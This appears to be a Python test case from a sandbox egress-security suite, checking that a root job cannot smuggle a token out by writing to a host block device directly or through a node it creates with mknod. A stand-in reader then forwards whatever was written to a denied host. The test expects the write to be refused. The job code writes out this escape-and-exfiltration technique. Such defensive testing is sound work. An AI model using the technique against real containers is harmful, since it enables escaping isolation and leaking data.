"""A root job writes a disk under its filesystems: it opens the host's block device node (and one it makes itself with mknod, as CAP_MKNOD allows) and writes the token there, past the copy-on-write layer of its system directories. The disk is a loop device on a file; a stand-in outside reads that file and sends whatever the job wrote to a denied host. The fence's cgroup/dev program refuses block devices to every job (tamper_device): nothing may arrive."""
import os
import subprocess
import time

from vlib import *  # noqa: F401,F403

POLICY = {"allow": [A4 + ":443"]}
AS = ("root",)
SINKS_OK = []
DENIED = [(D4, 443, "tcp")]
RECORD = [("egress.tamper", {"egress.reason": "tamper_device",
                             "egress.tamper.device": lambda v: str(v).startswith("block ")})]
NEEDS = ["losetup", "modprobe"]
TIMEOUT = 60
SIZE = 1 << 20


def outside(token, st):
    img = "/tmp/efsec-disk-%d.img" % os.getpid()
    with open(img, "wb") as f:
        f.write(b"\0" * SIZE)
    st["img"] = img
    if not os.path.exists("/dev/loop-control"):
        subprocess.run(["modprobe", "loop"], check=False)  # a stock kernel builds it as a module
    r = subprocess.run(["losetup", "--find", "--show", img], capture_output=True, text=True)
    if r.returncode:
        raise RuntimeError("CANNOT RUN: losetup: %s" % r.stderr.strip())
    dev = r.stdout.strip()
    st["dev"] = dev
    rdev = os.stat(dev).st_rdev
    pid = os.fork()
    if pid:
        st["pids"].append(pid)
        return {"args": [dev, str(os.major(rdev)), str(os.minor(rdev))]}
    try:  # the disk's reader: what the job wrote there goes to D4
        deadline = time.time() + TIMEOUT - 5
        while time.time() < deadline:
            with open(img, "rb") as f:
                data = f.read()
            if data.strip(b"\0"):
                try:
                    tcp_send(D4, 443, data.strip(b"\0"))
                except OSError:
                    pass
                break
            time.sleep(0.2)
    finally:
        os._exit(0)


def outside_cleanup(st):
    if st.get("dev"):
        subprocess.run(["losetup", "-d", st["dev"]], check=False)
    if st.get("img"):
        try:
            os.unlink(st["img"])
        except OSError:
            pass


def write_dev(path, data):
    fd = os.open(path, os.O_RDWR)
    try:
        os.pwrite(fd, data, 0)
        os.fsync(fd)
    finally:
        os.close(fd)


def mknod_write(major, minor, data):
    node = "/tmp/efsec-blk-%d" % os.getpid()
    os.mknod(node, 0o600 | 0o060000, os.makedev(major, minor))
    try:
        write_dev(node, data)
    finally:
        os.unlink(node)


def job(token, args):
    dev, major, minor = args[0], int(args[1]), int(args[2])
    data = payload(token, "raw disk")
    attempt("write " + dev, write_dev, dev, data)
    attempt("read " + dev, lambda: os.close(os.open(dev, os.O_RDONLY)))
    attempt("mknod and write", mknod_write, major, minor, data)
    time.sleep(2)  # the reader looks while the job runs


if __name__ == "__main__":
    main(globals())
